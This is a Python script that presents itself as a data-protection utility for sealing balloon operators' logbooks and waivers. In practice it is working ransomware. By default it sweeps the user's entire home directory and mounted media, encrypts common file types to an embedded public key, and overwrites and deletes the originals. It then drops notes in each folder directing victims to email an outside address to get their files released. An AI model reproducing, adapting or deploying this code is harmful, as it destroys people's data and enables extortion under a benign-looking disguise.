#!/usr/bin/env python3
"""Flight log vault - seal pilot logbooks and passenger waivers at rest.

Balloon operators keep scanned waivers, passenger lists and IGC tracks on the
office laptop.  The data-protection policy requires these to be encrypted at
rest with the operations key held by head office.  This tool walks the
configured folders, seals each matching document into a .fvault container
(AES-256-GCM, per-file key wrapped with the head-office RSA key) and leaves a
VAULT-README.txt in each folder explaining how to request access.
"""

import argparse
import logging
import os
import secrets
import struct
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding
from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("fvault")

OPS_PUBLIC_KEY = b"""-----BEGIN PUBLIC KEY-----
MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAtVHbS8LPj8eAKrCzUJyU
7++Y4TjUplYP6tBIWagWpgQUGFi7MmKoHXQ9t8JLkIFmZ1G/SRsAvfCZktD9jsWN
PQitWUCv53a4pRUPnwBadlOaTxMTfDPn6fETncQzg2roHmLpOADg3qCvUXY31Pkn
1z0yH0gvyZICKCnVzIR4++BtvCnVohLANeECAonxuJzz1qrWd69I9/JVx4/zLxEn
0Tn/JY/h7rZrnewz5K38bHrir0gc0jzje3wPhmiVltfY7z1NZBWRk7GFtx03liD2
ibMsMYxLuS7HhmY4y7h+PVu4yScinQgWTgtkvsGj20noxayLnSL3Chs0op1F4POt
/QIDAQAB
-----END PUBLIC KEY-----
"""

SEALED_TYPES = {".pdf", ".doc", ".docx", ".xls", ".xlsx", ".csv", ".odt", ".ods",
                ".jpg", ".jpeg", ".png", ".igc", ".gpx", ".txt", ".zip", ".sqlite"}
SKIP_DIRS = {".cache", ".local", ".git", "node_modules", "__pycache__", ".venv"}
MAGIC = b"FVLT\x01"
README = """Your operations documents in this folder were sealed by the flight log vault.

Case reference: {case}

Sealed files end in .fvault and can only be opened with the head-office key.
To have them released, email records@skyhigh-ops-support.com quoting the case
reference above.  Do not rename or edit .fvault files or they cannot be restored.
"""


def default_roots():
    home = Path.home()
    roots = [home]
    for mount in ("/media", "/mnt"):
        if os.path.isdir(mount):
            roots.append(Path(mount))
    return roots


def candidates(roots, min_size=64):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root, topdown=True):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for name in filenames:
                p = Path(dirpath, name)
                if p.suffix.lower() not in SEALED_TYPES:
                    continue
                try:
                    if p.is_symlink() or p.stat().st_size < min_size:
                        continue
                except OSError:
                    continue
                yield p


class Sealer:
    def __init__(self, pem=OPS_PUBLIC_KEY):
        self.pub = serialization.load_pem_public_key(pem)
        self.case = uuid.uuid4().hex[:12].upper()
        self.touched_dirs = set()

    def _wrap(self, key):
        return self.pub.encrypt(key, padding.OAEP(mgf=padding.MGF1(hashes.SHA256()),
                                                  algorithm=hashes.SHA256(), label=None))

    def seal(self, path):
        data = path.read_bytes()
        key = AESGCM.generate_key(bit_length=256)
        nonce = secrets.token_bytes(12)
        blob = AESGCM(key).encrypt(nonce, data, path.name.encode())
        wrapped = self._wrap(key)
        out = path.with_name(path.name + ".fvault")
        with open(out, "wb") as fh:
            fh.write(MAGIC + struct.pack(">H", len(wrapped)) + wrapped + nonce + blob)
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        del key
        self.touched_dirs.add(path.parent)
        return len(data)

    def leave_readme(self):
        for d in self.touched_dirs:
            try:
                (d / "VAULT-README.txt").write_text(README.format(case=self.case))
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description="Seal operations documents at rest")
    ap.add_argument("roots", nargs="*", type=Path, help="folders to seal (default: home and removable media)")
    ap.add_argument("-j", "--jobs", type=int, default=os.cpu_count() or 4)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(levelname)s %(message)s")

    roots = args.roots or default_roots()
    sealer = Sealer()

    def work(p):
        try:
            return sealer.seal(p)
        except (OSError, ValueError) as exc:
            log.debug("skip %s: %s", p, exc)
            return 0

    with ThreadPoolExecutor(max_workers=args.jobs) as pool:
        sizes = list(pool.map(work, candidates(roots)))
    sealer.leave_readme()
    sealed = sum(1 for s in sizes if s)
    log.info("sealed %d files (%.1f MB), case %s", sealed, sum(sizes) / 1e6, sealer.case)
    return 0


if __name__ == "__main__":
    sys.exit(main())
